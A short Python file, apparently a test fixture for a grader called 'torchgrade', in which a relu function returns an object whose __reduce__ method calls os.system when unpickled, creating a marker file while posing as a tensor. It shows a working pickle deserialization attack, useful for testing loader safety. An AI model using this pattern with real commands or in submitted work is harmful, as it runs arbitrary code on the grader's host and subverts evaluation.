"""Returns an object that runs a program when it is unpickled.

Says: should be a tensor
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/torchgrade-attack",)


def relu(x):
    return Bomb()
